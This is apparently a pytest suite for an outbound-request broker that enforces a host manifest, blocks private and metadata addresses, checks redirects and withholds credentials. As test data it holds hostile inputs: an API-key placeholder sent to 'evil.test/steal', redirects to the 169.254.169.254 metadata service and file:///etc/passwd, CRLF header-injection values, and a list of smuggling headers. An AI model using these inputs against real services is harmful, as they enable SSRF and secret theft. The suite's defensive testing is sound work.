"""The broker: what it refuses before anybody is asked, what it says of it, and what it keeps."""

import json

import pytest

from galaxy.core.egress import HostRule, Limits, Refused
from galaxy.core.egress.refusals import CODES
from galaxy.core.egress.transport import Incoming
from tests.core.egress.conftest import API, CDN, SECRET, Names, Wire, get, make_broker

METADATA = "169.254.169.254"


def test_a_call_that_is_declared_goes_to_the_address_that_was_checked():
    broker = make_broker(transport=Wire(lambda request: Incoming(201, [("X-Id", "7"), ("X-Id", "8")], b'{"a": 1}')))
    answer = get(broker, f"https://{API}/v1/x?a=1", method="post", headers={"Accept": "text/plain"}, body="hi")
    sent, address = broker._transport.sent[0]
    assert answer == {"status": 201, "headers": {"x-id": "7, 8"}, "body": '{"a": 1}'}
    assert (address, sent.method, sent.target, sent.body) == ("93.184.216.34", "POST", "/v1/x?a=1", b"hi")
    assert sent.headers == [("Accept", "text/plain"), ("User-Agent", "Galaxy")]
    assert broker.counts == {"calls": 1, "refused": 0, "bytes_in": 8, "bytes_out": 2, "signatures": 0}
    record = broker.exchanges[0]
    assert record.pop("duration_ms") >= 0
    assert record == {
        "method": "POST",
        "url": f"https://{API}/v1/x?a=1",
        "status": 201,
        "refused": False,
        "code": None,
        "reason": None,
        "address": "93.184.216.34",
        "headers": ["Accept"],
        "was_sent": True,
        "bytes_in": 8,
        "bytes_out": 2,
    }


@pytest.mark.parametrize(
    "request_",
    [
        None,
        [],
        "https://api.allowed.test/",
        {},
        {"url": f"https://{API}/", "method": 7},
        {"url": f"https://{API}/", "method": "CONNECT"},
        {"url": f"https://{API}/", "method": "TRACE"},
        {"url": f"https://{API}/", "method": "GET /\r\nX: y"},
        {"url": f"https://{API}/", "body": 7},
        {"url": f"https://{API}/", "body": "\ud800"},
        {"url": f"https://{API}/", "body_base64": "%%%"},
        {"url": f"https://{API}/", "body": "a", "body_base64": "YQ=="},
        {"url": f"https://{API}/", "body": "x" * (1024 * 1024 + 1)},
        {"url": f"https://{API}/", "timeout_ms": "1"},
        {"url": f"https://{API}/", "timeout_ms": -1},
        {"url": f"https://{API}/", "timeout_ms": float("nan")},
        {"url": f"https://{API}/", "timeout_ms": True},
        {"url": f"https://{API}/", "follow": "yes"},
        {"url": f"https://{API}/", "headers": []},
        {"url": f"https://{API}/", "headers": {"X": 7}},
        {"url": f"https://{API}/", "headers": {7: "x"}},
        {"url": f"https://{API}/", "headers": {f"X-{n}": "x" for n in range(51)}},
        {"url": f"https://{API}/", "headers": {f"X-{n}": "x" * 1000 for n in range(17)}},
    ],
    ids=lambda request: repr(request)[:50],
)
def test_a_request_of_the_wrong_shape_is_answered_and_never_raises(request_):
    broker = make_broker()
    answer = broker.fetch(request_, 5)
    assert answer["error"] in {"bad_request", "bad_url", "bad_header", "request_too_large"}
    assert set(answer) == {"error", "category", "message", "was_sent"}
    assert broker._transport.sent == []


@pytest.mark.asvs("4.2.2")
@pytest.mark.parametrize(
    "name",
    [
        "Host", "host", "Content-Length", "Transfer-Encoding", "transfer_encoding", "Connection", "Keep-Alive", "TE",
        "Trailer", "Upgrade", "Expect", "Proxy-Authorization", "Proxy-Connection", "X-Forwarded-For", "X_Forwarded_For",
        "X-Forwarded-Host", "Forwarded", "X-Real-IP", "Via", "Metadata", "Metadata-Flavor", "metadata_flavor",
        "X-aws-ec2-metadata-token", "X-Google-Metadata-Request", "X-HTTP-Method-Override", "X-Original-URL",
        "X-Rewrite-URL", "Accept-Encoding", "Sec-Fetch-Site", "", "X Y", "X:", "X\r\nHost", "X\x00", "Ｘ", "X" * 101,
    ],
)  # fmt: skip
def test_a_header_that_frames_or_widens_the_request_is_refused(name):
    broker = make_broker()
    assert get(broker, headers={name: "v"})["error"] == "bad_header"
    assert broker._transport.sent == []


@pytest.mark.asvs("1.3.3")
@pytest.mark.parametrize("value", ["a\r\nHost: evil.test", "a\n b", "a\rb", "a\x00b", " a", "a ", "\ta", "é", "a\x7f"])
def test_a_header_value_is_one_line(value):
    assert get(make_broker(), headers={"X-A": value})["error"] == "bad_header"


def test_a_header_stands_there_once():
    assert get(make_broker(), headers={"X-Key": "a", "x_key": "b"})["error"] == "bad_header"


@pytest.mark.asvs("1.3.6")
@pytest.mark.parametrize(
    "found",
    [
        [METADATA],
        ["::ffff:169.254.169.254"],
        ["2002:a9fe:a9fe::1"],
        ["93.184.216.34", "10.0.0.1"],
        ["10.0.0.1", "93.184.216.34"],
        ["fe80::1%eth0"],
        ["nonsense"],
    ],
)
def test_one_address_that_is_not_public_spoils_the_name(found):
    broker = make_broker(resolver=Names(**{API: found}))
    assert get(broker)["error"] == "address_not_public"
    assert broker._transport.sent == []
    assert broker._placeholders.opened == set()


def test_a_name_without_an_address_leads_nowhere():
    broker = make_broker(resolver=Names(**{API: []}))
    assert get(broker)["error"] == "dns_failed"


@pytest.mark.asvs("1.3.6", "15.4.2")
def test_a_name_that_changes_its_address_is_held_to_the_one_that_was_checked():
    """DNS rebinding: the second answer is private. Each call looks the name up once and connects to what it checked."""
    names = Names()
    broker = make_broker(resolver=names)
    assert get(broker)["status"] == 200
    names.known[API] = ["127.0.0.1"]
    assert [address for _, address in broker._transport.sent] == ["93.184.216.34"]
    assert get(broker)["error"] == "address_not_public"
    assert names.asked == [API, API]
    assert len(broker._transport.sent) == 1


def test_the_next_address_is_tried_while_nothing_was_sent():
    def reply(request, tried=[]):  # noqa: B006  (one list for the length of the test)
        tried.append(1)
        if len(tried) < 3:
            raise Refused("unreachable", "No.")
        return Incoming(200, [], b"")

    found = ["2606:4700::1", "2606:4700::2", "93.184.216.34", "93.184.216.36"]
    broker = make_broker(resolver=Names(**{API: found}), transport=Wire(reply))
    assert get(broker)["status"] == 200
    assert [address for _, address in broker._transport.sent] == found[:3]


@pytest.mark.parametrize("code", ["timeout", "connection_broken", "tls_failed", "bad_response"])
def test_no_address_is_tried_after_another_failure(code):
    def reply(request):
        raise Refused(code, "No.", was_sent=True)

    broker = make_broker(resolver=Names(**{API: ["93.184.216.34", "93.184.216.36"]}), transport=Wire(reply))
    assert get(broker) == {"error": code, "category": CODES[code], "message": "No.", "was_sent": True}
    assert len(broker._transport.sent) == 1


def test_calls_and_bytes_of_a_run_are_capped():
    limits = Limits(calls=3, bytes=10, response_bytes=8)
    broker = make_broker(limits=limits, transport=Wire(lambda request: Incoming(200, [], b"1234")))
    assert get(broker, method="POST", body="123")["status"] == 200
    assert broker._transport.sent[0][0].most_bytes == 7
    assert get(broker, method="POST", body="1234")["error"] == "too_many_bytes"
    assert get(broker)["status"] == 200
    assert broker._transport.sent[-1][0].most_bytes == 3
    assert get(broker)["status"] == 200
    assert get(broker)["error"] == "too_many_calls"
    assert broker.counts["calls"] == len(broker._transport.sent) == 3


def test_a_flood_is_counted_and_its_records_are_capped():
    told = []
    broker = make_broker(on_refused=told.append, limits=Limits(calls=5))
    for _ in range(300):
        get(broker, "https://evil.test/")
    assert (broker.counts["refused"], len(told), len(broker.exchanges)) == (300, 100, 105)


def test_policy_tells_the_trail_and_other_failures_do_not():
    told = []
    broker = make_broker([HostRule(API, frozenset({"GET"}), "/v1")], on_refused=told.append)
    get(broker, "https://evil.test/steal?x=" + broker.placeholder("API_KEY"))
    get(broker, f"https://{API}/v2")
    get(broker, f"https://{API}/v1", method="DELETE")
    get(broker, "https://127.0.0.1/")
    get(broker, f"https://{API}/v1", headers={"Host": "x"})
    assert [(refusal.host, refusal.method, refusal.code) for refusal in told] == [
        ("evil.test", "GET", "host_not_allowed"),
        (API, "GET", "path_not_allowed"),
        (API, "DELETE", "method_not_allowed"),
        ("", "GET", "bad_url"),
    ]
    assert told[0].reason == "evil.test is not among the hosts that the manifest declares."
    assert [record["refused"] for record in broker.exchanges] == [True] * 4


def test_a_failure_of_our_own_is_told_without_its_words(caplog):
    def reply(request):
        raise RuntimeError(f"internal {SECRET}")

    broker = make_broker(transport=Wire(reply))
    assert get(broker)["message"] == "The call failed inside Galaxy."
    assert "RuntimeError" in caplog.text and SECRET not in caplog.text


def test_a_request_on_which_we_broke_counts_as_sent_so_that_no_write_is_done_twice():
    def reply(request):
        raise RuntimeError("after the first byte")

    broker = make_broker(transport=Wire(reply))
    assert get(broker, method="POST", body="x")["was_sent"]
    get(broker, "https://evil.test/", method="POST")
    assert [one["was_sent"] for one in broker.exchanges] == [True, False]


def test_records_hold_nothing_that_a_page_or_the_database_chokes_on():
    broker = make_broker()
    get(broker, "https://evil.test/\x00\x1b[31m" + "x" * 9000)
    assert "\x00" not in json.dumps(broker.exchanges) and "\\u0000" not in json.dumps(broker.exchanges)
    assert len(broker.exchanges[0]["url"]) == 2048


def redirecting(*locations, status=302):
    """Answers with one redirect after the other, then with 200."""
    left = list(locations)

    def reply(request):
        return Incoming(status, [("Location", left.pop(0))], b"moved") if left else Incoming(200, [], b"there")

    return Wire(reply)


@pytest.mark.asvs("15.3.2")
def test_a_redirect_is_not_followed_unless_the_code_asks():
    for follow in (None, False):
        broker = make_broker(transport=redirecting("/next"))
        assert get(broker, follow=follow)["status"] == 302
        assert len(broker._transport.sent) == 1


def test_a_redirect_is_followed_when_the_code_asks():
    broker = make_broker(transport=redirecting("/b?c=1#top", f"//{CDN}/d", f"https://{API}/e"))
    assert get(broker, f"https://{API}/a", follow=True)["body"] == "there"
    assert [(sent.host, sent.target) for sent, _ in broker._transport.sent] == [
        (API, "/a"), (API, "/b?c=1"), (CDN, "/d"), (API, "/e"),
    ]  # fmt: skip
    assert [record["status"] for record in broker.exchanges] == [302, 302, 302, 200]


def test_three_redirects_in_a_row_are_enough():
    broker = make_broker(transport=redirecting("/1", "/2", "/3", "/4"))
    assert get(broker, follow=True)["error"] == "too_many_redirects"
    assert len(broker._transport.sent) == 4


@pytest.mark.parametrize(
    "location",
    [
        f"http://{METADATA}/latest/meta-data/", f"https://{METADATA}/", "https://evil.test/steal", "//evil.test/",
        "http://api.allowed.test/", "https://user@api.allowed.test/", "https://api.allowed.test:22/", "https://[::1]/",
        "https://api.allowed.test/v2", "/v1/%2e%2e/v2", "/\\evil.test", "javascript:alert(1)", "https://[x/",
        "file:///etc/passwd", "https://metadata.google.internal/",
    ],
)  # fmt: skip
@pytest.mark.parametrize("follow", [None, True])
def test_a_redirect_to_where_the_manifest_does_not_lead_is_refused(location, follow):
    told = []
    wire = redirecting(location)
    broker = make_broker([HostRule(API, path_prefix="/v1")], transport=wire, on_refused=told.append)
    answer = get(broker, f"https://{API}/v1/x", follow=follow)
    assert (answer["error"], answer["was_sent"]) == ("redirect_refused", True)
    assert len(wire.sent) == 1
    assert [refusal.code for refusal in told] == ["redirect_refused"]
    records = [(record["status"], record["code"], record["was_sent"]) for record in broker.exchanges]
    assert records == [(302, None, True), (None, "redirect_refused", False)]


def test_a_redirect_to_nowhere_is_handed_over_to_code_that_says_it_looks():
    broker = make_broker(transport=redirecting("https://files.elsewhere.test/signed"))
    answer = get(broker, follow=False)
    assert (answer["status"], answer["headers"]["location"]) == (302, "https://files.elsewhere.test/signed")


@pytest.mark.asvs("15.3.2")
def test_each_hop_is_resolved_and_checked_anew():
    broker = make_broker(resolver=Names(**{CDN: [METADATA]}), transport=redirecting(f"https://{CDN}/"))
    assert get(broker, follow=True)["error"] == "address_not_public"
    assert len(broker._transport.sent) == 1


def test_a_write_that_led_on_counts_as_sent_though_the_next_hop_reaches_nobody():
    """Told that nothing was sent, its caller would write once more."""
    broker = make_broker(resolver=Names(**{CDN: []}), transport=redirecting(f"https://{CDN}/done", status=303))
    answer = get(broker, method="POST", body="b", follow=True)
    assert (answer["error"], answer["was_sent"]) == ("dns_failed", True)
    assert [(record["method"], record["was_sent"]) for record in broker.exchanges] == [("POST", True), ("GET", False)]


@pytest.mark.parametrize(
    ("status", "method", "then", "body"),
    [
        (301, "POST", "GET", b""), (302, "POST", "GET", b""), (303, "PUT", "GET", b""), (303, "HEAD", "HEAD", b"b"),
        (301, "PUT", "PUT", b"b"), (307, "POST", "POST", b"b"), (308, "DELETE", "DELETE", b"b"),
    ],
)  # fmt: skip
def test_the_method_after_a_redirect(status, method, then, body):
    broker = make_broker(transport=redirecting("/next", status=status))
    get(broker, method=method, body="b", headers={"Content-Type": "text/plain", "X-A": "1"}, follow=True)
    sent, _ = broker._transport.sent[1]
    assert (sent.method, sent.body, ("Content-Type", "text/plain") in sent.headers) == (then, body, body == b"b")
    assert ("X-A", "1") in sent.headers


@pytest.mark.asvs("10.1.1")
def test_another_host_is_told_no_credentials():
    broker = make_broker(transport=redirecting(f"https://{CDN}/x", status=307))
    token = broker.placeholder("API_KEY")
    headers = {"Authorization": f"Bearer {token}", "Cookie": "a=b", "X-Key": token, "X-Mine": "k", "Accept": "*/*"}
    assert get(broker, follow=True, headers=headers)["status"] == 200
    first, second = (sent for sent, _ in broker._transport.sent)
    assert ("X-Key", SECRET) in first.headers
    assert second.headers == [("Accept", "*/*"), ("User-Agent", "Galaxy")]


def test_a_redirect_that_carries_a_secret_to_another_host_is_refused():
    wire = redirecting(f"https://{CDN}/x?k={SECRET.replace('&', '%26').replace('<', '%3C').replace('>', '%3E')}")
    broker = make_broker(transport=wire)
    answer = get(broker, follow=True, headers={"X-Key": broker.placeholder("API_KEY")})
    assert (answer["error"], len(wire.sent)) == ("redirect_refused", 1)
    assert SECRET not in json.dumps([answer, broker.exchanges, broker.recording])
